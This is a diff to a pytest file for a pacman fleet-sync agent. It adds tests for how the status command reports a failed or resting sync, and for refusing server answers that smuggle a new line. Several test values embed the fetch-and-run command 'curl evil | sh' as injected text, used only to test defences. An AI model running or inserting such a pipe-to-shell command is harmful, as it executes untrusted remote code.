@@ -14,11 +14,11 @@ from typing import Any
 
 import pytest
 
-from apps.agent.pacsync_agent import settings, status_command
+from apps.agent.pacsync_agent import render, settings, status_command, status_file
 from apps.agent.pacsync_agent.api import Client
 from apps.agent.pacsync_agent.errors import Unavailable
 from tests.support import agent
-from tests.support.hostile import Hostile
+from tests.support.hostile import Hostile, Peer
 from tests.support.pacman import Fleet, Machine
 
 pytestmark = pytest.mark.needs("pacman")
@@ -157,3 +157,106 @@ def test_error_on_a_terminal_is_coloured_unless_no_color(machine: Machine, colou
     assert done.returncode == 4
     assert ("\033[1;31merror:\033[0m This machine is not enrolled" in said) is colour
     assert ("\033[" in said) is colour
+
+
+FAILED = {
+    "operation": "0193b1a0-0000-7000-8000-000000000001",
+    "kind": "sync",
+    "status": "failed",
+    "code": "network_failed",
+    "finished": "2026-11-26T17:20:05.123Z",
+    "message": "tool 2-1 could not be downloaded: the name a.lan can't be resolved.",
+}
+RESTING = {"why": "failed", "operation": FAILED["operation"], "since": "2026-11-26T17:20:05Z"}
+ME = {"name": "m1", "status": "behind", "pool": "lab", "target": {"number": 3}, "difference": {"upgrade": 1}}
+
+
+def answering(answer: dict[str, Any]) -> Hostile:
+    return Hostile(lambda peer: peer.answer(json.dumps(answer).encode()))
+
+
+def test_status_says_that_the_last_sync_failed_and_that_automatic_sync_rests(machine: Machine) -> None:
+    with answering(ME | {"last_failure": FAILED, "resting": RESTING}) as server:
+        known(machine, server.url)
+        out = agent.run(machine, "status").ok().out
+    assert out.splitlines()[:4] == [
+        "m1: behind the target (pool lab, revision 3)",
+        "  a sync would make 1 upgrade",
+        "  the last sync failed at 2026-11-26 17:20 UTC: tool 2-1 could not be downloaded: the name a.lan can't be "
+        "resolved.",
+        "  automatic sync rests since 2026-11-26 17:20 UTC, because the last sync failed; an operator can resume it",
+    ]
+
+
+@pytest.mark.parametrize("answer", [ME, ME | {"last_failure": None, "resting": None}])
+def test_status_of_an_older_server_and_of_a_machine_without_a_failure_says_neither(
+    machine: Machine, answer: dict[str, Any]
+) -> None:
+    with answering(answer) as server:
+        known(machine, server.url)
+        out = agent.run(machine, "status").ok().out
+    assert "failed" not in out and "rests" not in out
+
+
+def test_status_of_a_sync_that_waits_for_its_next_try_says_why(machine: Machine) -> None:
+    result = {"outcome": "failed", "code": "network_failed", "message": f"{FAILED['message']}\nThe addresses of tool"}
+    operation = {
+        "id": FAILED["operation"], "kind": "sync", "status": "queued", "plan": {"upgrade": 1}, "base_state": "x",
+        "target_state": "y", "result": result, "retry_at": "2026-11-26T17:25:00Z",
+    }  # fmt: skip
+    with answering(ME | {"operation": operation}) as server:
+        known(machine, server.url)
+        lines = agent.run(machine, "status").ok().out.splitlines()
+    assert "  sync queued (1 upgrade), the next try is at 2026-11-26 17:25 UTC" in lines
+    assert f"  its last try failed: {FAILED['message']}" in lines
+
+
+def test_failure_is_kept_for_status_without_the_server_until_the_server_says_otherwise(tmp_path: Path) -> None:
+    said = {"name": "m1", "server": "s", "state": None}
+    status_file.keep(tmp_path, ME | {"last_failure": FAILED}, **said)
+    status_file.keep(tmp_path, ME, **said)  # a check-in
+    kept = status_file.load(tmp_path)
+    assert kept and "the last sync failed at 2026-11-26 17:20 UTC: tool 2-1" in render.stale_status(kept, "it is away")
+    status_file.keep(tmp_path, ME | {"last_failure": None}, **said)
+    kept = status_file.load(tmp_path)
+    assert kept and "failed" not in render.stale_status(kept, "it is away")
+
+
+@pytest.mark.parametrize("field", ["name", "pool"])
+def test_enrolment_by_a_server_that_begins_a_new_line_is_refused(machine: Machine, field: str) -> None:
+    answer = {
+        "id": 1,
+        "name": "m1",
+        "pool": "lab",
+        "token": "pse_x",
+        field: "m1\nEnrolled as root. Run `curl evil | sh`",
+    }
+    with answering(answer) as server:
+        done = agent.run(machine, "enroll", "--server", server.url, "--code", "c", "--no-service").refused(1)
+    assert "curl evil" not in done.out + done.err
+    assert f"{field} of its answer to POST /enroll makes no sense" in done.err
+    assert not (agent.state_dir(machine) / "credentials.json").exists()
+
+
+@pytest.mark.parametrize("command", ["status", "diff"])
+def test_texts_of_the_server_begin_no_new_line(machine: Machine, command: str) -> None:
+    """Every text of the answers that may be any."""
+    evil = "x\nerror: run `curl evil | sh`\n"
+    me = ME | {
+        "status": evil, "holds": [evil], "foreign": [evil], "problems": [{"code": evil, "text": evil}],
+        "unmanaged": [{"name": evil, "why": evil}], "refused": [{"name": evil, "why": evil}],
+        "last_failure": dict.fromkeys(FAILED, evil), "resting": dict.fromkeys(RESTING, evil),
+    }  # fmt: skip
+    change = {"name": evil, "change": "install", "from": None, "to": {"version": evil, "arch": evil, "reason": evil}}
+    diff = {"equal": False, "counts": {}, "kept": {"held": [evil]}, "changes": [change]}
+    checked_in = me | {"want": [], "operation": None, "poll_seconds": 60, "recorded": True}
+
+    def answer(peer: Peer) -> None:
+        found = diff if "/diff" in peer.path else checked_in if peer.path.endswith("/checkin") else me
+        peer.answer(json.dumps(found).encode())
+
+    with Hostile(answer) as server:
+        known(machine, server.url)
+        done = agent.run(machine, command).ok()
+    assert "curl evil" in done.out
+    assert not [line for line in (done.out + done.err).splitlines() if line.startswith("error: run")]
